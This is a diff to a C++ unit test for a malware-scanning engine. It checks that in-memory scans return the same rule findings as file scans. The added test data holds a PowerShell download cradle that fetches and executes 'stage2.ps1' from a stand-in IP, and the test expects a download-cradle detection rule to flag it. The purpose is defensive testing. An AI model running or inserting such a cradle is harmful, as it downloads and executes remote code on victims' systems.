@@ -4,6 +4,7 @@
 #include <stdlib.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <atomic>
 #include <chrono>
 #include <cstdint>
@@ -356,11 +357,15 @@ TEST_F(EngineTest, FileTypeNamesOfFilesWeCreate) {
 }
 
 // A small upload is analysed from memory (issue 19, target 3): the same answer as from the file,
-// for text, documents, archives, executables and a virus inside an archive.
+// for text, documents, archives, executables, a virus inside an archive and rules that match
+// (Quick and Static both).
 TEST_F(EngineTest, QuickFromMemoryEqualsQuickFromTheFile) {
   std::ifstream ls("/bin/ls", std::ios::binary);
   std::string elf((std::istreambuf_iterator<char>(ls)), std::istreambuf_iterator<char>());
   ASSERT_GT(elf.size(), 1000u);
+  const std::string kCradle =
+      "$c = New-Object Net.WebClient\n"
+      "IEX ($c.DownloadString('http://198.51.100.7/stage2.ps1'))\n";
   std::mt19937 rng(7);
   std::string random(64 * 1024, '\0');
   for (char& c : random) c = static_cast<char>(rng());
@@ -375,6 +380,9 @@ TEST_F(EngineTest, QuickFromMemoryEqualsQuickFromTheFile) {
       {"ls", elf},
       {"random.bin", random},
       {"one", "x"},
+      // Rules that match: in the file itself and in an archive member.
+      {"cradle.ps1", kCradle},
+      {"scripts.zip", StoredZip({{"readme.txt", "hi\n"}, {"run/cradle.ps1", kCradle}})},
   };
   std::vector<std::pair<std::string, std::string>> files(std::begin(cases), std::end(cases));
   // And every clamav-testfiles sample (executables, archives, OLE2 and RTF documents, CHM, ...).
@@ -406,6 +414,29 @@ TEST_F(EngineTest, QuickFromMemoryEqualsQuickFromTheFile) {
     EXPECT_EQ(mem->av_error, file->av_error);
     if (name == "eicar.com" || name == "bundle.zip") {
       EXPECT_EQ(mem->virus_name, "Eicar-Test-Signature");
+    }
+    // The rules, on the bytes in memory and on the mapped file.
+    Result<StaticResult> sfile = engine_->Static(path, name);
+    Result<StaticResult> smem = engine_->Static(path, name, std::string_view(bytes));
+    ASSERT_TRUE(sfile.ok()) << sfile.status().message();
+    ASSERT_TRUE(smem.ok()) << smem.status().message();
+    auto rules = [](const StaticResult& r) {
+      std::vector<std::string> out;
+      for (const Finding& f : r.findings)
+        out.push_back(f.rule + "|" + f.member + "|" + f.signature);
+      return out;
+    };
+    EXPECT_EQ(rules(*smem), rules(*sfile));
+    EXPECT_EQ(smem->score, sfile->score);
+    EXPECT_EQ(smem->members_scanned, sfile->members_scanned);
+    EXPECT_EQ(smem->timed_out, sfile->timed_out);
+    if (name == "cradle.ps1") {
+      ASSERT_EQ(smem->findings.size(), 1u);
+      EXPECT_EQ(smem->findings[0].rule, "Sandgate_PowerShell_Download_Cradle");
+    }
+    if (name == "scripts.zip") {  // its members were extracted and given to the rules
+      EXPECT_FALSE(smem->findings.empty());
+      EXPECT_GE(smem->members_scanned, 1u);
     }
   }
 }
